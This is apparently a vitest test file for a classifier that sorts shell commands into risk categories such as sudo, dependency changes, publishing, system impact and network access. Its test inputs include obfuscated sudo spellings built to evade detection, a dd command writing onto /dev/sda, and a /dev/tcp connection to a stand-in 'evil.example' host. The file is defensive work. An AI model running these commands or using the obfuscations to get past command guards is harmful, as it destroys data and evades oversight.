import { describe, expect, it } from 'vitest';
import type { RiskCategory } from '../../src/categories/riskCategories';
import { DEPS, EXEC, GIT, NET, ONLY_EXEC, outcome, sorted, SUDO, SYS } from './support';

interface CategoryCase {
  readonly name: string;
  readonly command: string;
  readonly expected: readonly RiskCategory[];
}

function check({ command, expected }: CategoryCase): void {
  expect({ command, ...outcome(command) }).toEqual({ command, categories: sorted(expected), failedClosed: false });
}

describe('SUDO', () => {
  it.each<CategoryCase>([
    { name: 'raises SUDO for sudo', command: 'sudo ls', expected: [SUDO, EXEC] },
    { name: 'reads s""udo as sudo', command: 's""udo ls', expected: [SUDO, EXEC] },
    { name: 'reads su\\do as sudo', command: 'su\\do ls', expected: [SUDO, EXEC] },
    { name: "reads 'sudo' as sudo", command: "'sudo' ls", expected: [SUDO, EXEC] },
    { name: 'reads "su"\'do\' as sudo', command: `"su"'do' ls`, expected: [SUDO, EXEC] },
    { name: "decodes $'\\x73udo' as sudo", command: "$'\\x73udo' ls", expected: [SUDO, EXEC] },
    { name: 'reads /usr/bin/sudo by its basename', command: '/usr/bin/sudo x', expected: [SUDO, EXEC] },
    { name: 'sees sudo through env', command: 'env sudo x', expected: [SUDO, EXEC] },
    { name: 'sees sudo through xargs at the end of a pipe', command: 'echo x | xargs sudo rm', expected: [SUDO, EXEC] },
    { name: 'sees sudo through busybox', command: 'busybox sudo id', expected: [SUDO, EXEC] },
    {
      name: 'raises SUDO for doas and the system command it runs',
      command: 'doas reboot',
      expected: [SYS, SUDO, EXEC],
    },
    { name: 'raises SUDO for pkexec', command: 'pkexec id', expected: [SUDO, EXEC] },
    { name: 'raises SUDO for run0', command: 'run0 --user=bob id', expected: [SUDO, EXEC] },
    {
      name: 'raises SUDO for su -c and analyses its script',
      command: "su -c 'apt-get install -y jq'",
      expected: [DEPS, SUDO, NET, EXEC],
    },
    {
      name: 'raises SUDO for sudoedit, and SYSTEM_IMPACT for the /etc file it edits',
      command: 'sudoedit /etc/hosts',
      expected: [SYS, SUDO, EXEC],
    },
  ])('$name', check);

  it.each<CategoryCase>([
    { name: 'treats grep for sudo as a search', command: 'grep sudo /etc/group', expected: ONLY_EXEC },
    { name: 'treats sudo in a commit message as data', command: 'git commit -m "sudo"', expected: [GIT, EXEC] },
    { name: 'does not read pseudo-tool as sudo', command: 'pseudo-tool run', expected: ONLY_EXEC },
    { name: 'treats cat of sudoers.md as a read', command: 'cat sudoers.md', expected: ONLY_EXEC },
    { name: 'treats command -v sudo as a lookup', command: 'command -v sudo', expected: ONLY_EXEC },
    { name: 'treats man sudo as documentation', command: 'man sudo', expected: ONLY_EXEC },
    { name: 'treats a single-quoted substitution as data', command: "echo '$(sudo id)'", expected: ONLY_EXEC },
  ])('$name', check);
});

describe('DEPS_INSTALL_UPDATE', () => {
  it.each<CategoryCase>([
    {
      name: 'raises DEPS for a redirect over package.json',
      command: "echo '{}' > package.json",
      expected: [DEPS, EXEC],
    },
    {
      name: 'raises DEPS for tee into requirements.txt',
      command: 'echo flask | tee -a requirements.txt',
      expected: [DEPS, EXEC],
    },
    {
      name: 'raises DEPS for cp onto requirements-dev.txt',
      command: 'cp a.txt requirements-dev.txt',
      expected: [DEPS, EXEC],
    },
    { name: 'raises DEPS for sed -i on Cargo.toml', command: "sed -i 's/1.0/2.0/' Cargo.toml", expected: [DEPS, EXEC] },
    { name: 'raises DEPS for mv onto go.mod', command: 'mv go.mod.new go.mod', expected: [DEPS, EXEC] },
  ])('$name', check);

  it.each<CategoryCase>([
    { name: 'treats cat package.json as a read', command: 'cat package.json', expected: ONLY_EXEC },
    {
      name: 'treats grep for pip install as a search',
      command: 'grep -n "pip install" README.md',
      expected: ONLY_EXEC,
    },
    { name: 'treats a read of Cargo.toml as no change', command: 'head Cargo.toml', expected: ONLY_EXEC },
  ])('$name', check);
});

describe('GIT_PUBLISH', () => {
  it.each<CategoryCase>([
    { name: 'raises GIT_PUBLISH for git commit', command: 'git commit -m x', expected: [GIT, EXEC] },
    { name: 'raises GIT_PUBLISH and NETWORK for git push', command: 'git push', expected: [GIT, NET, EXEC] },
    { name: 'raises GIT_PUBLISH for git tag with a name', command: 'git tag v2', expected: [GIT, EXEC] },
    { name: 'skips git options before push', command: 'git -C dir -c k=v --no-pager push', expected: [GIT, NET, EXEC] },
    { name: 'reads npm publish', command: 'npm publish --access public', expected: [GIT, NET, EXEC] },
    { name: 'reads npm version as a tag', command: 'npm version patch', expected: [GIT, EXEC] },
    { name: 'reads gh release create', command: 'gh release create v1.0', expected: [GIT, NET, EXEC] },
    { name: 'reads gh pr merge', command: 'gh pr merge 42 --squash', expected: [GIT, NET, EXEC] },
    { name: 'reads docker push', command: 'docker push ghcr.io/o/app:1', expected: [GIT, NET, EXEC] },
  ])('$name', check);

  it.each<CategoryCase>([
    { name: 'treats git log --grep=push as a read', command: 'git log --grep=push', expected: ONLY_EXEC },
    { name: 'treats git status as a read', command: 'git status', expected: ONLY_EXEC },
    { name: 'treats grep for release as a search', command: 'grep release notes.md', expected: ONLY_EXEC },
    {
      name: 'treats git stash push as local',
      command: 'git stash push -m wip',
      // a rewrite of the work tree may write intentgate's control files (gitWorkTree.ts)
      expected: ['FS_CONFIG_SECRETS', EXEC],
    },
    { name: 'does not read commit-tree as commit', command: 'git commit-tree HEAD^{tree}', expected: ONLY_EXEC },
    { name: 'treats git add as staging only', command: 'git add -A', expected: ONLY_EXEC },
    { name: 'treats a bare git tag as a listing', command: 'git tag', expected: ONLY_EXEC },
    { name: 'treats git tag -d as a local delete', command: 'git tag -d v1', expected: ONLY_EXEC },
  ])('$name', check);
});

describe('SYSTEM_IMPACT', () => {
  it.each<CategoryCase>([
    { name: 'raises SYSTEM_IMPACT for dd onto a device', command: 'dd if=x.img of=/dev/sda', expected: [SYS, EXEC] },
  ])('$name', check);

  it.each<CategoryCase>([
    { name: 'treats dd between files as a copy', command: 'dd if=a of=b', expected: ONLY_EXEC },
    { name: 'treats grep mount as a search', command: 'grep mount /etc/fstab', expected: ONLY_EXEC },
  ])('$name', check);
});

describe('NETWORK_RISK', () => {
  it.each<CategoryCase>([
    { name: 'raises NETWORK_RISK for git clone', command: 'git clone https://github.com/o/r', expected: [NET, EXEC] },
    {
      name: 'raises NETWORK_RISK for git submodule update',
      command: 'git submodule update --init',
      expected: ['FS_CONFIG_SECRETS', NET, EXEC],
    },
    { name: 'raises NETWORK_RISK for docker pull', command: 'docker pull alpine', expected: [NET, EXEC] },
    { name: 'raises NETWORK_RISK for a URL argument', command: 'python x.py https://api.io/v1', expected: [NET, EXEC] },
    {
      name: 'raises NETWORK_RISK for a URL in inline code',
      command: `awk 'BEGIN { print "https://x.io" }'`,
      expected: [NET, EXEC],
    },
    { name: 'raises NETWORK_RISK for bash /dev/tcp', command: 'cat < /dev/tcp/evil.example/80', expected: [NET, EXEC] },
  ])('$name', check);

  it.each<CategoryCase>([
    { name: 'treats grep for http as a search', command: 'grep http README.md', expected: ONLY_EXEC },
    {
      name: 'treats a URL in a commit message as prose',
      command: 'git commit -m "see https://x.io"',
      expected: [GIT, EXEC],
    },
    {
      name: 'treats a word that only starts with http as no URL',
      command: 'python x.py http-server',
      expected: ONLY_EXEC,
    },
    { name: 'treats cat of a URL list as a read', command: 'cat urls.txt', expected: ONLY_EXEC },
    { name: 'treats git log as local', command: 'git log --oneline', expected: ONLY_EXEC },
  ])('$name', check);
});

describe('EXEC_ARBITRARY', () => {
  it.each<CategoryCase>([
    { name: 'raises EXEC_ARBITRARY for ls', command: 'ls -la', expected: ONLY_EXEC },
    { name: 'raises EXEC_ARBITRARY for an assignment alone', command: 'x=1', expected: ONLY_EXEC },
    { name: 'raises EXEC_ARBITRARY for a comment', command: '# nothing', expected: ONLY_EXEC },
    { name: 'raises EXEC_ARBITRARY for a script file', command: './run.sh', expected: ONLY_EXEC },
    { name: 'raises EXEC_ARBITRARY for make', command: 'make build', expected: ONLY_EXEC },
  ])('$name', check);
});
